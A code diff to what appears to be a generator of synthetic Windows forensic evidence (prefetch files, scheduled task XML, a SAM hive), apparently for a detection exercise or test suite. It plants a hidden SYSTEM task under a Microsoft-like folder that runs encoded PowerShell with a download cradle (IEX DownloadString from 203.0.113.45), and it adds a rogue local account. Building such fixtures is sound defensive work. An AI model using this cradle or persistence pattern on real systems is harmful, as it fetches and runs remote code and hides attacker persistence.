@@ -10,6 +10,7 @@ IFEO entries without a debugger, and prefetch files of conhost.exe and 7-Zip fro
 """
 from __future__ import annotations
 
+import base64
 import hashlib
 import struct
 
@@ -128,13 +129,15 @@ def software_hive() -> bytes:
 
 
 def prefetch(executable: str, folder: str, runs: list[str], run_count: int, extra: tuple[str, ...] = ()) -> tuple[str, bytes]:
-    """(file name, bytes) of a format 30 prefetch file for `folder\\executable` on the system volume."""
+    """(file name, bytes) of a format 30 prefetch file for `folder\\executable` on the system volume,
+    MAM-compressed (LZXPRESS Huffman) as Windows Server 2016 writes it."""
     own = f"{folder}\\{executable}"
     files = [f"{VOLUME}\\WINDOWS\\SYSTEM32\\NTDLL.DLL", f"{VOLUME}\\WINDOWS\\SYSTEM32\\KERNEL32.DLL",
              f"{VOLUME}\\WINDOWS\\SYSTEM32\\KERNELBASE.DLL"] + [f"{VOLUME}\\{name}" for name in extra] + [f"{VOLUME}\\{own}"]
     digest = scca_2008_hash(f"{DEVICE}\\{own}")
     data = write_prefetch({"version": 30, "executable": executable, "hash": digest, "run_count": run_count, "last_runs": runs,
-                           "files": files, "volume": VOLUME, "volume_serial": 0x8C1D2E3F, "volume_created": "2020-11-02T09:58:00Z"})
+                           "files": files, "volume": VOLUME, "volume_serial": 0x8C1D2E3F, "volume_created": "2020-11-02T09:58:00Z",
+                           "compress": True})
     return f"{executable}-{digest}.pf", data
 
 
@@ -145,3 +148,82 @@ def prefetch_files() -> list[tuple[str, bytes, bool]]:
     conhost = prefetch("CONHOST.EXE", "WINDOWS\\SYSTEM32", ["2021-03-03T08:40:02Z", "2021-03-03T07:45:07Z", "2021-03-02T22:05:11Z"], 57)
     sevenzip = prefetch("7Z.EXE", "PROGRAM FILES\\7-ZIP", ["2021-03-03T07:52:18Z"], 3, extra=("PROGRAM FILES\\7-ZIP\\7Z.DLL",))
     return [(procdump[0], procdump[1], True), (conhost[0], conhost[1], False), (sevenzip[0], sevenzip[1], False)]
+
+
+def task_xml(date: str, author: str, principal: str, command: str, arguments: str | None = None, hidden: bool = False,
+             uri: str = "") -> bytes:
+    """A Task Scheduler 1.2 definition as Windows writes it under System32\\Tasks: UTF-16LE with a BOM."""
+    args = f"\n      <Arguments>{arguments}</Arguments>" if arguments else ""
+    text = f"""<?xml version="1.0" encoding="UTF-16"?>
+<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <RegistrationInfo>
+    <Date>{date}</Date>
+    <Author>{author}</Author>
+    <URI>{uri}</URI>
+  </RegistrationInfo>
+  <Triggers>
+    <BootTrigger>
+      <Enabled>true</Enabled>
+    </BootTrigger>
+  </Triggers>
+  <Principals>
+    <Principal id="Author">
+      <UserId>{principal}</UserId>
+      <RunLevel>HighestAvailable</RunLevel>
+    </Principal>
+  </Principals>
+  <Settings>
+    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
+    <Hidden>{"true" if hidden else "false"}</Hidden>
+    <Enabled>true</Enabled>
+  </Settings>
+  <Actions Context="Author">
+    <Exec>
+      <Command>{command}</Command>{args}
+    </Exec>
+  </Actions>
+</Task>
+""".replace("\n", "\r\n")
+    return b"\xff\xfe" + text.encode("utf-16-le")
+
+
+def task_files() -> list[tuple[str, bytes, bool]]:
+    """(path below System32/Tasks, bytes, planted). Planted: a hidden SYSTEM task registered at 07:50:12
+    by CORP\\Administrator under a Microsoft-looking folder, running encoded PowerShell (a download cradle
+    to the attacker's address). Look-alikes: Defender's scheduled scan (MpCmdRun.exe from ProgramData)
+    and ScheduledDefrag, both Microsoft's."""
+    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/u.ps1')"
+    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
+    planted = "Microsoft/Windows/Maintenance/WinSvcHealth"
+    return [
+        (planted, task_xml("2021-03-03T07:50:12", "CORP\\Administrator", "S-1-5-18", "powershell.exe",
+                           f"-nop -w hidden -enc {encoded}", hidden=True, uri="\\" + planted.replace("/", "\\")), True),
+        ("Microsoft/Windows/Windows Defender/Windows Defender Scheduled Scan",
+         task_xml("2020-11-02T10:20:00", "Microsoft Corporation", "S-1-5-18",
+                  "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2101.9-0\\MpCmdRun.exe",
+                  "Scan -ScheduleJob -ScanTrigger 55", uri="\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan"),
+         False),
+        ("Microsoft/Windows/Defrag/ScheduledDefrag",
+         task_xml("2016-07-16T13:22:00", "$(@%SystemRoot%\\system32\\defragsvc.dll,-801)", "S-1-5-18", "%windir%\\system32\\defrag.exe",
+                  "-c -h -o -$", hidden=True, uri="\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"), False),
+    ]
+
+
+def sam_hive() -> bytes:
+    """SAM with the built-in accounts and one local account added during the attack: `exsvc`, RID 1003,
+    its Names key written 07:51:30 (about when it was created), last logon 08:05:12 in its F value.
+    A Names entry's value type is the account's RID, as Windows stores it."""
+    accounts = [("Administrator", 500, INSTALLED, None), ("Guest", 501, INSTALLED, None), ("DefaultAccount", 503, INSTALLED, None),
+                ("exsvc", 1003, "2021-03-03T07:51:30Z", "2021-03-03T08:05:12Z")]
+    names = key("Names", time="2021-03-03T07:51:30Z",
+                keys=[key(name, time, [{"name": "", "type": "none", "type_code": rid, "data": None}]) for name, rid, time, _ in accounts])
+    records = []
+    for name, rid, time, logon in accounts:
+        f = bytearray(80)
+        if logon:
+            struct.pack_into("<Q", f, 8, filetime(logon))
+        struct.pack_into("<I", f, 48, rid)
+        records.append(key("%08X" % rid, time, [val("F", "binary", bytes(f).hex())]))
+    users = key("Users", time="2021-03-03T07:51:30Z", keys=[names] + records)
+    return write_hive({"name": "SAM", "time": "2021-03-03T08:05:12Z", "root": key("ROOT", keys=[
+        key("SAM", keys=[key("Domains", keys=[key("Account", keys=[users])])])])})
